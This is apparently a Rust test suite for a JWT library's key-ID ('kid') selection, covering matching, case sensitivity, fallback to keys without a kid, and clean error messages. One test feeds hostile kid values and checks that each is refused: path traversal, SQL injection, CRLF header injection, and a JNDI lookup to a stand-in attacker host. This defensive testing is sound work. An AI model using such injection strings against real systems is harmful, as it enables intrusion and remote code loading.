//! How the `kid` of a token selects keys of a set (RFC 7515 section 4.1.4).

use serde_json::json;
use tower_jwt_auth::{KeySet, VerifyingKey};

use crate::support::{signing_keys::*, *};

#[test]
fn a_token_is_verified_only_with_the_key_that_it_names() {
    let [one, two] = ["1", "2"].map(|kid| SigningKey::generate("ES256", kid));
    let layer = layer_of(jwks([&one, &two]));
    for (row, expected, token) in [
        ("the first", "accepted", one.token(&claims())),
        ("the second", "accepted", two.token(&claims())),
        (
            "the first under the ID of the second",
            "signature",
            one.sign(&json!({ "alg": "ES256", "kid": "2" }), &claims()),
        ),
        (
            "an unknown ID",
            "unknown_key",
            one.sign(&json!({ "alg": "ES256", "kid": "3" }), &claims()),
        ),
        (
            "an empty ID",
            "unknown_key",
            one.sign(&json!({ "alg": "ES256", "kid": "" }), &claims()),
        ),
        (
            "an ID and a space",
            "unknown_key",
            one.sign(&json!({ "alg": "ES256", "kid": "1 " }), &claims()),
        ),
        (
            "an ID with more digits",
            "unknown_key",
            one.sign(&json!({ "alg": "ES256", "kid": "01" }), &claims()),
        ),
    ] {
        assert_eq!(reason(&layer, &token), expected, "{row}");
    }
}

#[test]
fn key_ids_are_case_sensitive() {
    let [lower, upper] = ["a", "A"].map(|kid| SigningKey::generate("EdDSA", kid));
    let layer = layer_of(jwks([&lower]));
    assert_eq!(reason(&layer, &lower.token(&claims())), "accepted");
    assert_eq!(reason(&layer, &upper.token(&claims())), "unknown_key");
    let layer = layer_of(jwks([&lower, &upper]));
    for key in [&lower, &upper] {
        assert_eq!(reason(&layer, &key.token(&claims())), "accepted");
    }
}

#[test]
fn a_token_that_names_a_key_of_another_algorithm_is_rejected() {
    let ec = SigningKey::generate("ES256", "ec");
    let ed = SigningKey::generate("EdDSA", "ed");
    let layer = layer_of(jwks([&ec, &ed]));
    let token = ed.sign(&json!({ "alg": "EdDSA", "kid": "ec" }), &claims());
    assert_eq!(reason(&layer, &token), "algorithm");
    let token = ed.sign(&json!({ "alg": "ES256", "kid": "ed" }), &claims());
    assert_eq!(reason(&layer, &token), "algorithm");
}

#[test]
fn a_token_without_kid_is_tried_with_the_keys_of_its_algorithm() {
    let keys = ALGORITHMS.map(|alg| SigningKey::generate(alg, alg));
    let layer = layer_of(jwks(&keys));
    for key in &keys {
        let token = key.sign(&json!({ "alg": key.alg }), &claims());
        assert_eq!(reason(&layer, &token), "accepted", "{}", key.alg);
    }
    let ec = &keys[6];
    let layer = layer_of(jwks([ec]));
    let token = keys
        .last()
        .unwrap()
        .sign(&json!({ "alg": "EdDSA" }), &claims());
    assert_eq!(
        reason(&layer, &token),
        "algorithm",
        "no key of this algorithm"
    );
}

#[test]
fn a_token_without_kid_is_tried_with_the_last_ten_keys() {
    let ids: Vec<_> = (0..12).map(|id| id.to_string()).collect();
    let keys: Vec<_> = ids
        .iter()
        .map(|id| SigningKey::generate("EdDSA", id))
        .collect();
    let others = ["a", "b", "c"].map(|kid| SigningKey::generate("ES256", kid));
    // Keys of another algorithm are not among the ten.
    let layer = layer_of(jwks(keys.iter().chain(&others)));
    for (index, key) in keys.iter().enumerate() {
        let without_kid = key.sign(&json!({ "alg": "EdDSA" }), &claims());
        let expected = if index < 2 { "signature" } else { "accepted" };
        assert_eq!(reason(&layer, &without_kid), expected, "key {}", key.kid);
        // If the token names its key, the number of keys does not matter.
        let token = key.token(&claims());
        assert_eq!(reason(&layer, &token), "accepted", "key {}", key.kid);
    }
}

#[test]
fn a_key_without_kid_is_tried_for_every_token() {
    for alg in ALGORITHMS {
        let key = SigningKey::generate(alg, "1");
        let from_pem = VerifyingKey::from_pem(key.pem()).unwrap();
        let from_pem = from_pem.with_algorithm(algorithm(alg)).unwrap();
        for (row, builder) in [
            ("PEM", any_audience().key(from_pem)),
            (
                "a set",
                any_audience().jwks_text(jwks_of([without(key.jwk(), "kid")])),
            ),
        ] {
            let layer = builder.build().unwrap();
            for header in [
                json!({ "alg": alg }),
                json!({ "alg": alg, "kid": "1" }),
                json!({ "alg": alg, "kid": "" }),
                json!({ "alg": alg, "kid": "../../dev/null" }),
            ] {
                let token = key.sign(&header, &claims());
                assert_eq!(reason(&layer, &token), "accepted", "{row}: {header}");
            }
        }
    }
}

#[test]
fn a_named_key_is_tried_before_the_keys_without_kid() {
    let without_kid: Vec<_> = (0..12)
        .map(|_| SigningKey::generate("EdDSA", "none"))
        .collect();
    let named = SigningKey::generate("EdDSA", "1");
    let entries = || without_kid.iter().map(|key| without(key.jwk(), "kid"));
    for set in [
        jwks_of(entries().chain([named.jwk()])),
        jwks_of([named.jwk()].into_iter().chain(entries())),
    ] {
        let layer = layer_of(set);
        assert_eq!(reason(&layer, &named.token(&claims())), "accepted");
        // Nine others are tried after it, the last of the set first.
        for (index, key) in without_kid.iter().enumerate() {
            let token = key.sign(&json!({ "alg": "EdDSA", "kid": "1" }), &claims());
            let expected = if index < 3 { "signature" } else { "accepted" };
            assert_eq!(reason(&layer, &token), expected, "key {index}");
        }
    }
}

#[test]
fn the_reason_is_signature_if_any_key_was_tried() {
    let [one, two] = ["1", "2"].map(|kid| SigningKey::generate("EdDSA", kid));
    let stranger = SigningKey::generate("EdDSA", "3");
    let named = layer_of(jwks([&one, &two]));
    let mixed = layer_of(jwks_of([one.jwk(), without(two.jwk(), "kid")]));
    let without_kid = stranger.sign(&json!({ "alg": "EdDSA" }), &claims());
    for (row, layer, token, expected) in [
        ("no kid", &named, &without_kid, "signature"),
        (
            "unknown kid",
            &named,
            &stranger.token(&claims()),
            "unknown_key",
        ),
        (
            "a key without kid",
            &mixed,
            &stranger.token(&claims()),
            "signature",
        ),
    ] {
        assert_eq!(reason(layer, token), expected, "{row}");
    }
}

#[tokio::test]
async fn a_hostile_kid_matches_no_key() {
    let key = SigningKey::generate("ES256", "1");
    let layer = layer_of(jwks([&key]));
    let sign = |kid| key.sign(&json!({ "alg": "ES256", "kid": kid }), &claims());
    let unknown = [
        "../../dev/null",
        "/dev/null",
        "..\\..\\nul",
        "' OR 1=1--",
        "1' OR '1'='1",
        "1\0",
        "\0",
        "\u{1F511}",
        "\u{FEFF}1",
        "\u{FF11}",
        "1\n",
        "1\r\nset-cookie: a=b",
        "${jndi:ldap://attacker.example.com/a}",
        "https://attacker.example.com/jwks",
        "*",
        "null",
        "[object Object]",
    ];
    let rows = unknown.map(|kid| (kid.escape_debug().to_string(), sign(json!(kid))));
    assert_each_refused(&layer, "unknown_key", rows).await;

    let rows = [
        json!(1),
        json!(1.0),
        json!(null),
        json!(true),
        json!(["1"]),
        json!({ "kid": "1" }),
    ];
    let rows = rows.map(|kid| (kid.to_string(), sign(kid)));
    assert_each_refused(&layer, "header", rows).await;

    let long = |length| (length, sign(json!("k".repeat(length))));
    assert_each_refused(&layer, "unknown_key", [long(255), long(8 << 10)]).await;
    assert_each_refused(&layer, "too_long", [long(1 << 20)]).await;
}

#[test]
fn an_error_does_not_contain_the_kid() {
    let key = SigningKey::generate("ES256", "1");
    let layer = layer_of(jwks([&key]));
    let header = json!({ "alg": "ES256", "kid": "canary\r\nx: y" });
    let error = layer
        .verifier()
        .verify(&key.sign(&header, &claims()))
        .unwrap_err();
    assert!(!format!("{error} {error:?}").contains("canary"));
}

#[test]
fn with_key_id_replaces_the_kid_of_a_key() {
    let key = SigningKey::generate("ES256", "1");
    let named = VerifyingKey::from_pem(key.pem()).unwrap().with_key_id("1");
    assert_eq!(named.key_id(), Some("1"));
    let renamed = VerifyingKey::from_jwk(&key.jwk().to_string())
        .unwrap()
        .with_key_id("2");
    assert_eq!(renamed.key_id(), Some("2"));
    for (configured, one, two) in [
        (named, "accepted", "unknown_key"),
        (renamed, "unknown_key", "accepted"),
    ] {
        let layer = any_audience()
            .keys(KeySet::new([configured]))
            .build()
            .unwrap();
        for (kid, expected) in [("1", one), ("2", two)] {
            let token = key.sign(&json!({ "alg": "ES256", "kid": kid }), &claims());
            assert_eq!(reason(&layer, &token), expected, "kid {kid}");
        }
        let without_kid = key.sign(&json!({ "alg": "ES256" }), &claims());
        assert_eq!(reason(&layer, &without_kid), "accepted", "no kid");
    }
}
